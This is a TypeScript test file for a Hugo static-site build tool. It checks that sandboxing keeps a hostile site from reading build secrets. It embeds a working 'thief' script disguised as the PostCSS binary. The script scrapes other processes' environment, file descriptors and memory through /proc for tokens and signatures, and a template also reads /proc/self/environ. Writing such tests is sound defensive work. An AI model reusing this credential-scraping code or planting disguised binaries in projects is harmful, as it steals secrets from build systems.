/** A site whose own code goes after the secrets of its build, run by the bundled program as a process. */
import { execFile } from 'node:child_process';
import { readFile, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { beforeAll, describe, expect, test } from 'vitest';
import { builderAccount, chooseConfinement } from '../../hugo-image/build-site/sandbox/confinement.ts';
import {
  buildEnvironment,
  buildSurroundings,
  git,
  namesIn,
  pathWithout,
  repositoryRoot,
  temporaryDirectory,
  token,
} from './build-fixture.ts';
import { gitServer } from './git-server.ts';

const run = promisify(execFile);
const program = path.join(repositoryRoot, 'dist/hugo-image/build-site.mjs');
const gitToken = 'git-token-9c27';
const confinement = await chooseConfinement();
const isRoot = process.getuid?.() === 0;

beforeAll(async () => {
  await run(process.execPath, [path.join(repositoryRoot, 'scripts/bundle-build-site.mjs')]);
});

/** Stands where Hugo looks for PostCSS: prints whatever it can read of any process, and of what a parent may have left. */
const thief = String.raw`#!/usr/bin/env node
const fs = require('node:fs');
const found = [];
const secrets = /(callback|git)-token-[0-9a-f]{4}|sig=[A-Za-z0-9%]{20,}|Basic [A-Za-z0-9+/=]{20,}/g;
const keep = (from, text) => { for (const [secret] of text.matchAll(secrets)) found.push(from + ': ' + secret); };
const look = (file) => { try { const { size } = fs.statSync(file); if (size < 1e6 && fs.statSync(file).isFile()) keep(file, fs.readFileSync(file, 'latin1')); } catch {} };
const list = (folder) => { try { return fs.readdirSync(folder); } catch { return []; } };
const search = (pid) => {
  try {
    if (!fs.readFileSync('/proc/' + pid + '/cmdline', 'latin1').includes('build-site')) return;
    const memory = fs.openSync('/proc/' + pid + '/mem', 'r');
    for (const line of fs.readFileSync('/proc/' + pid + '/maps', 'utf8').split('\n')) {
      const [, from, to] = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line) ?? [];
      if (!from || parseInt(to, 16) - parseInt(from, 16) > 50e6) continue;
      const bytes = Buffer.alloc(parseInt(to, 16) - parseInt(from, 16));
      try { fs.readSync(memory, bytes, 0, bytes.length, parseInt(from, 16)); } catch { continue; }
      keep('memory of ' + pid, bytes.toString('latin1'));
    }
  } catch {}
};
for (const pid of list('/proc').filter((name) => /^[0-9]+$/.test(name) && Number(name) !== process.pid)) {
  for (const name of ['environ', 'cmdline']) look('/proc/' + pid + '/' + name);
  for (const fd of list('/proc/' + pid + '/fd')) look('/proc/' + pid + '/fd/' + fd);
  search(pid);
}
for (const folder of list('/tmp').filter((name) => /^slipway-(own|build)-/.test(name))) {
  for (const file of list('/tmp/' + folder)) look('/tmp/' + folder + '/' + file);
}
process.stdin.resume().on('end', () => process.stdout.write('/* the thief was here\n' + JSON.stringify(process.env) + found.join('\n') + ' */'));
`;

const hostileFiles = {
  'config.yaml': 'disableKinds: [taxonomy, term, RSS, sitemap]\n',
  'assets/a.css': 'a{}',
  'node_modules/.bin/postcss': thief,
  'layouts/index.html': [
    '{{ with resources.Get "a.css" | postCSS }}{{ .Content }}{{ end }}',
    '{{ with os.FileExists "/proc/self/environ" }}{{ os.ReadFile "/proc/self/environ" }}{{ end }}',
  ].join('\n'),
};

/** A repository with the thief, behind a server, and all that a build of it needs. */
async function hostileSite() {
  const surroundings = await buildSurroundings(hostileFiles);
  const { directory } = surroundings.site;
  await git(directory, 'update-index', '--chmod=+x', 'node_modules/.bin/postcss');
  await git(directory, 'commit', '--quiet', '--message', 'Let it run');
  const commit = await git(directory, 'rev-parse', 'HEAD');
  const server = await gitServer(path.dirname(directory));
  const env = {
    ...surroundings.env,
    SLIPWAY_REPOSITORY: server.urlOf(directory),
    SLIPWAY_COMMIT: commit,
    SLIPWAY_GIT_TOKEN: gitToken,
  };
  return { ...surroundings, env, server };
}

type Ended = { code: number; stdout: string };

async function bundled(
  env: Record<string, string | undefined>,
  command = [process.execPath, program],
): Promise<Ended> {
  const [file = '', ...args] = command;
  const options = {
    cwd: os.tmpdir(),
    timeout: 30_000,
    maxBuffer: 50_000_000,
    env: buildEnvironment(env) as NodeJS.ProcessEnv,
  };
  const ended = await run(file, args, options).catch((error: Ended) => error);
  return { code: 'code' in ended ? ended.code : 0, stdout: ended.stdout };
}

/** The image in what matters here: the program is process 1 and root, and there is an account for the site's tools. */
async function asInTheImage(): Promise<string[]> {
  const passwd = path.join(await temporaryDirectory(), 'passwd');
  const accounts = await readFile('/etc/passwd', 'utf8');
  await writeFile(passwd, `${accounts}${builderAccount}:x:61234:61234::/nonexistent:/usr/sbin/nologin\n`);
  const script =
    'mount --bind "$1" /etc/passwd && mkdir -p /tmp/slipway-build && mount -t tmpfs none /tmp/slipway-build && shift && exec "$@"';
  return [
    'unshare',
    '--mount',
    '--pid',
    '--fork',
    '--kill-child',
    '--mount-proc',
    'sh',
    '-c',
    script,
    'sh',
    passwd,
  ];
}

/** Everything that leaves a build: the objects of the release, its manifest and report, what was reported and the log. */
async function everythingOf({ store, callback }: Awaited<ReturnType<typeof hostileSite>>, { stdout }: Ended) {
  const texts = [stdout, JSON.stringify(callback.received.map(({ body }) => body))];
  for (const name of await namesIn(store.container, '')) {
    texts.push((await store.container.getBlobClient(name).downloadToBuffer()).toString('latin1'));
  }
  return texts.join('\n');
}

function secretsOf(uploadUrl: string): string[] {
  const signature = new URL(uploadUrl).searchParams.get('sig') ?? '';
  return [token, gitToken, `x-access-token:${gitToken}`, signature].flatMap((secret) => [
    secret,
    encodeURIComponent(secret),
    Buffer.from(secret).toString('base64'),
  ]);
}

const wasThere = 'the thief was here';

describe('a site that looks for the secrets of its build', () => {
  test.skipIf(confinement.kind === 'none')('finds none in namespaces of its own', async () => {
    const site = await hostileSite();
    const ended = await bundled(site.env);
    expect(ended).toMatchObject({ code: 0 });
    const everything = await everythingOf(site, ended);
    expect(everything).toContain(wasThere);
    for (const secret of secretsOf(site.store.uploadUrl)) expect(everything).not.toContain(secret);
    expect(site.server.requests.some(({ authorization }) => authorization?.startsWith('Basic '))).toBe(true);
  });

  test.skipIf(!isRoot || confinement.kind === 'none')(
    'finds none in the image, where it is another user',
    async () => {
      const site = await hostileSite();
      const ended = await bundled(site.env, [...(await asInTheImage()), process.execPath, program]);
      expect(ended).toMatchObject({ code: 0 });
      const everything = await everythingOf(site, ended);
      expect(everything).toContain(wasThere);
      expect(everything).toContain('/tmp/slipway-build/');
      for (const secret of secretsOf(site.store.uploadUrl)) expect(everything).not.toContain(secret);
    },
  );

  test('finds them where nothing protects them, which the log says', async () => {
    const site = await hostileSite();
    const ended = await bundled({ ...site.env, PATH: await pathWithout('unshare') });
    expect(ended).toMatchObject({ code: 0 });
    expect(ended.stdout).toContain('warning: this machine lets no user make namespaces');
    const everything = await everythingOf(site, ended);
    expect(everything).toContain(wasThere);
    expect(everything).toMatch(new RegExp(`environ: ${gitToken}`));
    expect(everything).toMatch(new RegExp(`memory of \\d+: ${token}`));
  });
});
